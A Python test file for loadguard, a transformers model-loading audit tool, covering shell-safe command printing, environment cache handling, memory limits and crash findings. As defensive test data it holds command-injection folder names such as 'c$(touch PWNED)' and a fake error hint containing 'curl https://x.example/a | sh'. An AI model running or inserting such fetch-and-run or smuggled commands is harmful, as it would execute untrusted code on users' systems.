"""Containment, round 4 (issue 58): the commands loadguard prints paste as exactly the arguments meant, a hint never
turns a model's words into a command, the environments of other transformers releases are built, checked, capped,
listed and removed so that no later run trusts a half-made one, and every limit a user sets reaches every process a
run starts."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from loadguard._infra import envcache, envs, forks
from loadguard.errors import command_line, fix_command_line

from ..conftest import IS_V5, TRANSFORMERS_VERSION

linux = pytest.mark.skipif(sys.platform != "linux", reason="processes are read from /proc (Linux)")
needs_v5 = pytest.mark.skipif(not IS_V5, reason=f"transformers {TRANSFORMERS_VERSION} loads np_buffer right")
HOSTILE = ["c$(touch PWNED)", "a b; touch PWNED", "it's `touch PWNED`", "-rf", "x\ny"]


def _pasted(command: str, scratch: Path) -> list[str]:
    """``command`` pasted into bash in ``scratch``, with the program it names replaced by one that prints its
    arguments, one per line (NUL-separated: a newline inside an argument stays inside it)."""
    stub = "loadguard() { printf '%s\\0' \"$@\"; }; sh() { printf '%s\\0' sh \"$@\"; }; "
    done = subprocess.run(["bash", "-c", stub + command], cwd=scratch, capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    return done.stdout.split("\0")[:-1]


@pytest.mark.parametrize("name", HOSTILE)
def test_every_printed_command_pastes_as_the_arguments_it_means(tmp_path, name):
    from loadguard.pytest_plugin._hook import reproducer_command

    scratch = tmp_path / "scratch"
    scratch.mkdir()
    folder = str(tmp_path / name)
    commands = {
        "audit": (
            command_line("audit", folder, trust_remote_code=True, workarounds=["auto"]),
            ["audit", folder, "--trust-remote-code", "--workaround", "auto"],
        ),
        "fix": (fix_command_line(folder, trust_remote_code=True), ["fix", folder, "--trust-remote-code", "--out"]),
        "pytest": (
            reproducer_command(folder, {"trust_remote_code": True}, "auto", True),
            ["audit", folder, "--trust-remote-code", "--workaround", "auto"],
        ),
    }
    for what, (command, meant) in commands.items():
        words = _pasted(command, scratch)
        assert words[: len(meant)] == meant, (what, command, words)
    assert not (scratch / "PWNED").exists() and not Path("PWNED").exists()


@linux
@needs_v5
def test_a_hint_that_names_a_command_pastes_as_that_command(zoo_folder, tmp_path, capsys):
    """compare on a model that crashes because of its load, in a folder whose name is shell: the hint's command, pasted
    through bash, gives the folder back as one argument and runs nothing else."""
    from loadguard.cli import main

    folder = tmp_path / "c$(touch PWNED)"
    shutil.copytree(zoo_folder("np_buffer"), folder)
    with pytest.raises(SystemExit):
        main(["compare", str(folder), "--trust-remote-code"])
    hint = next(line for line in capsys.readouterr().err.splitlines() if line.startswith("Hint:"))
    command = hint.split("run: ", 1)[1]
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    assert _pasted(command, scratch)[:2] == ["compare", str(folder)]
    assert not (scratch / "PWNED").exists()


def test_a_hint_names_a_package_only_when_it_is_a_plain_requirement():
    from loadguard._hf import translate

    hostile = ImportError(
        "Using `bitsandbytes` 8-bit quantization requires the latest version: "
        "`pip install bitsandbytes; curl https://x.example/a | sh; touch PWNED`"
    )
    said = translate(hostile, "/models/m")
    assert "curl" not in said.hint and "touch" not in said.hint and "curl" in said.message  # quoted, never offered
    plain = translate(ImportError("quantization needs `pip install bitsandbytes>=0.43`"), "/models/m")
    assert plain.hint.startswith("pip install 'bitsandbytes>=0.43';")


# -- the environments of other transformers releases --------------------------------------------------------------------


def _fake_environment(root: Path, version: str, used: float, size: int = 1000, ok: bool = True) -> Path:
    """A cached environment as ``envs`` lays one out (its record, its last use, a payload of ``size`` bytes)."""
    folder = root / "envs" / "py311-torchX" / f"transformers-{version}-abcdef012345"
    folder.mkdir(parents=True)
    (folder / envcache.STAMP).write_text(json.dumps({"ok": ok}))
    (folder / envcache.USED).write_text(str(used))
    (folder / "payload").write_bytes(b"x" * size)
    return folder


def test_cache_list_and_remove_by_version_and_age(tmp_path, monkeypatch, capsys):
    from loadguard.cli import main

    monkeypatch.setenv("LOADGUARD_CACHE", str(tmp_path))
    old = _fake_environment(tmp_path, "4.30.2", time.time() - 40 * 86400)
    recent = _fake_environment(tmp_path, "4.46.3", time.time())
    other = _fake_environment(tmp_path, "4.57.6", time.time() - 86400)
    with pytest.raises(SystemExit) as info:
        main(["cache", "list", "--format", "json"])
    listed = json.loads(capsys.readouterr().out)
    assert info.value.code == 0 and [e["transformers"] for e in listed["environments"]] == [
        "4.30.2",
        "4.57.6",
        "4.46.3",
    ]
    assert all(e["bytes"] >= 1000 for e in listed["environments"])
    with pytest.raises(SystemExit):
        main(["cache", "remove", "--older-than", "30"])
    assert not old.exists() and recent.exists() and other.exists()
    assert "removed transformers 4.30.2" in capsys.readouterr().out
    with pytest.raises(SystemExit):
        main(["cache", "remove", "4.57.6"])
    assert not other.exists() and recent.exists()
    with pytest.raises(SystemExit) as info:
        main(["cache", "remove"])
    assert info.value.code == 2 and "needs what to remove" in capsys.readouterr().err


def test_the_cache_keeps_under_its_limit_least_recently_used_first(tmp_path, monkeypatch):
    monkeypatch.setenv("LOADGUARD_CACHE", str(tmp_path))
    monkeypatch.setenv("LOADGUARD_CACHE_LIMIT", "2500B")
    oldest = _fake_environment(tmp_path, "4.30.2", 100.0)
    middle = _fake_environment(tmp_path, "4.40.2", 200.0)
    newest = _fake_environment(tmp_path, "4.46.3", 300.0)
    removed = envcache.keep_under_limit(keep=oldest)  # the one just used stays, whatever its age
    assert [r.transformers for r in removed] == ["4.40.2"] and oldest.exists() and newest.exists()
    assert not middle.exists()


def test_a_damaged_environment_is_seen_before_use(tmp_path):
    folder = tmp_path / "env"
    site = folder / "lib" / "python3.11" / "site-packages"
    (site / "transformers-4.57.6.dist-info").mkdir(parents=True)
    (site / "transformers-4.57.6.dist-info" / "METADATA").write_text("Name: transformers\nVersion: 4.57.6\n")
    (folder / "bin").mkdir()
    (folder / "bin" / "python").symlink_to(sys.executable)
    (folder / "shared-torch" / "torch").mkdir(parents=True)
    (folder / "shared-torch" / "torch" / "__init__.py").write_text("")
    (site / "zz_loadguard_shared.pth").write_text(f"{folder / 'shared-torch'}\n{tmp_path}\n")
    assert envs._damaged(folder, "4.57.6") == ""
    assert "holding transformers 4.57.6, not 4.30.2" in envs._damaged(folder, "4.30.2")
    shutil.rmtree(folder / "shared-torch" / "torch")  # torch removed from under it
    assert envs._damaged(folder, "4.57.6") == "without the torch it links (moved or removed)"


@linux
def test_a_failed_build_leaves_nothing_a_later_run_trusts(tmp_path, monkeypatch):
    """The package index unreachable (uv offline, with a cache of its own): the build fails, no folder and no record
    of it stay, so the next run builds it afresh; a cache reached through a link works the same."""
    real = tmp_path / "real-cache"
    real.mkdir()
    link = tmp_path / "cache-link"
    link.symlink_to(real, target_is_directory=True)
    monkeypatch.setenv("LOADGUARD_CACHE", str(link))
    monkeypatch.setenv("UV_OFFLINE", "1")
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "uv-cache"))
    made = envs.environment("4.21.0")
    assert made.ok is False and made.reason
    leftovers = [p for p in (real / "envs").rglob("*") if "transformers-4.21.0" in p.name and p.suffix != ".lock"]
    assert [p.name for p in leftovers if not p.name.endswith((".override.txt", ".owner"))] == []
    assert envs.environment("4.21.0").ok is False  # tried again, not answered from a record of the failure


@linux
def test_a_process_waiting_for_an_environment_says_what_it_waits_for(tmp_path, capsys):
    folder = tmp_path / "transformers-4.57.6-abcdef012345"
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            f"from filelock import FileLock\nimport time\nl = FileLock({str(folder) + '.lock'!r})\n"
            "l.acquire()\nprint('held', flush=True)\ntime.sleep(2)\nl.release()",
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert holder.stdout.readline().strip() == "held"
    Path(str(folder) + ".lock.owner").write_text(str(holder.pid))
    with envs._held(folder, "4.57.6", patience=0.2):
        pass
    holder.wait()
    said = capsys.readouterr().err
    assert f"waiting for another loadguard process (pid {holder.pid}) building the transformers 4.57.6" in said


@linux
def test_a_memory_limit_counts_the_processes_a_child_starts():
    """A child that starts another interpreter which allocates past the limit (fix's proof (b) under transformers 4 is
    one) is stopped as if it had allocated that itself."""

    def starts_a_hog(_):
        subprocess.run(
            [
                sys.executable,
                "-c",
                "import time\nx = bytearray(400 * 2**20)\nx[::4096] = b'1' * len(x[::4096])\ntime.sleep(30)",
            ]
        )
        return "finished"

    (outcome,) = forks.run(starts_a_hog, [None], memory_limit=150 * 2**20, timeout=60)
    assert outcome.ok is False and outcome.killed == "memory"


def test_fix_has_a_default_timeout_said_in_its_help(capsys):
    from loadguard.cli import main
    from loadguard.cli.fix import DEFAULT_TIMEOUT

    with pytest.raises(SystemExit):
        main(["fix", "--help"])
    assert DEFAULT_TIMEOUT == 900 and "(default: 900, as scan and matrix)" in " ".join(capsys.readouterr().out.split())


@linux
def test_the_modules_cache_copy_of_a_killed_fix_is_removed_by_the_next(tmp_path, monkeypatch):
    from loadguard._fix import remove_stale

    monkeypatch.setenv("HF_MODULES_CACHE", str(tmp_path / "modules"))
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale = (
        tmp_path
        / "modules"
        / "transformers_modules"
        / f"_dot_out_dot_loadguard_hyphen_fix_hyphen_{dead.pid}_hyphen_0123abcd"
    )
    alive = (
        tmp_path
        / "modules"
        / "transformers_modules"
        / f"_dot_out_dot_loadguard_hyphen_fix_hyphen_{os.getppid()}_hyphen_0123abcd"
    )
    for folder in (stale, alive):
        (folder / "abc").mkdir(parents=True)
    removed = remove_stale(tmp_path / "elsewhere")
    assert stale.name in removed and not stale.exists() and alive.exists()


@needs_v5
def test_a_list_of_one_model_that_cannot_run_is_its_row(tmp_path, capsys):
    from loadguard.cli import main

    listed = tmp_path / "models.txt"
    listed.write_text(f"{tmp_path / 'missing'}\n")
    with pytest.raises(SystemExit) as info:
        main(["fix", "--from", str(listed), "--out", str(tmp_path / "out"), "--trust-remote-code"])
    captured = capsys.readouterr()
    assert info.value.code == 3 and "could not run" in captured.out and "unexpected" not in captured.err


@linux
@needs_v5
def test_a_forward_that_kills_its_process_is_a_finding_beside_what_the_load_got_wrong(zoo_folder, tmp_path):
    folder = tmp_path / "segfaults"
    shutil.copytree(zoo_folder("np_buffer"), folder)
    modeling = folder / "modeling_lgtoy.py"
    text = modeling.read_text()
    marker = "    def forward(self, input_ids: torch.LongTensor, attention_mask=None, **kwargs) -> CausalLMOutput:\n"
    assert marker in text
    modeling.write_text(text.replace(marker, marker + "        import ctypes\n\n        ctypes.string_at(0)\n", 1))
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "loadguard",
            "audit",
            str(folder),
            "--trust-remote-code",
            "--forward",
            "--format",
            "json",
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 1, done.stderr
    document = json.loads(done.stdout)
    statuses = {f["tensor"]: f["status"] for f in document["findings"]}
    assert statuses["positions.table"] == "uninitialized"  # what the load checks found is kept
    crash = next(f for f in document["findings"] if f["check"] == "runs")
    assert crash["status"] == "crashed" and "SIGSEGV" in crash["detail"]
